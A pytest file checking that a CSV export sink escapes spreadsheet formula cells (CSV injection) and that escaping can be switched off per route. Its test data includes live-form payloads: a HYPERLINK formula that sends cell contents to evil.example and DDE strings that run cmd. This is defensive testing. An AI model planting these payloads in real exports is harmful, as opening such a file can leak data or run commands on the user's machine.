"""Issue 9, defect 9: the files sink's CSV is safe to open in a spreadsheet (OWASP CSV Injection).

Records from the field reach the CSV; a cell starting with =, +, -, @ (or tab, CR...) is run as a
formula by Excel, LibreOffice and Google Sheets. The sink writes real files here; they are read
back with Python's csv module, as a consumer would.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from sink_harness import outgoing

from hq_server.routing.config import routes_from_dict
from hq_server.sinks.base import Delivery
from hq_server.sinks.files import FilesSettings, FilesSink

pytestmark = pytest.mark.timeout(30)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # after leading whitespace
    " @SUM(A1)",
    "+254 712 345678",  # a phone number is text and stays text
]
HARMLESS = ["Amina Njoroge", "a=b", "x+y", "email@example.org", "", "'already quoted"]
COLUMNS = ["cell"]


def read_back(directory: Path) -> list[dict[str, str]]:
    rows: list[dict[str, str]] = []
    for path in sorted(directory.iterdir()):
        with open(path, newline="", encoding="utf-8") as f:
            rows += list(csv.DictReader(f))
    return rows


async def write(directory: Path, cells: list[Any], **options: Any) -> list[dict[str, str]]:
    settings = FilesSettings(directory=directory, format="csv", columns=COLUMNS, **options)
    sink = FilesSink(settings)
    await sink.open()
    try:
        batch = [outgoing(i + 1, payload={"cell": cell}) for i, cell in enumerate(cells)]
        outcomes = await sink.send(batch)
        assert [o.status for o in outcomes] == [Delivery.DELIVERED] * len(cells)
    finally:
        await sink.close()
    return read_back(directory)


async def test_formula_cells_are_written_with_a_leading_quote(tmp_path: Path) -> None:
    rows = await write(tmp_path, HOSTILE + HARMLESS)
    assert [row["cell"] for row in rows] == ["'" + text for text in HOSTILE] + HARMLESS
    for row in rows:  # no cell a spreadsheet would run is left
        assert not row["cell"].lstrip().startswith(("=", "+", "-", "@")), row["cell"]


async def test_numbers_and_json_values_are_never_changed(tmp_path: Path) -> None:
    values = [-5, -0.25, 42, True, None, {"a": "=1"}, ["-x"]]
    rows = await write(tmp_path, values)
    cells = [row["cell"] for row in rows]
    assert cells == ["-5", "-0.25", "42", "true", "", '{"a":"=1"}', '["-x"]']
    assert [json.loads(c) if c else None for c in cells] == values


async def test_a_hostile_record_key_is_escaped_too(tmp_path: Path) -> None:
    settings = FilesSettings(directory=tmp_path, format="csv", columns=COLUMNS)
    sink = FilesSink(settings)
    await sink.open()
    hostile = outgoing(1, key="=1+2", payload={"cell": "x"})
    try:
        assert (await sink.send([hostile]))[0].status is Delivery.DELIVERED
    finally:
        await sink.close()
    (row,) = read_back(tmp_path)
    assert row["key"] == "'=1+2"


async def test_the_per_route_opt_out_writes_text_as_it_is(tmp_path: Path) -> None:
    rows = await write(tmp_path, HOSTILE, csv_escape_formulas=False)
    assert [row["cell"] for row in rows] == HOSTILE


def test_the_opt_out_is_a_route_setting() -> None:
    sink = {"type": "files", "directory": "/tmp", "format": "csv", "columns": ["a"]}
    route = {"sources": ["beneficiaries"], "sink": sink}
    loaded = routes_from_dict({"routes": {"r": route}}).routes["r"]
    assert loaded.sink_settings.csv_escape_formulas is True
    sink["csv_escape_formulas"] = False
    loaded = routes_from_dict({"routes": {"r": route}}).routes["r"]
    assert loaded.sink_settings.csv_escape_formulas is False
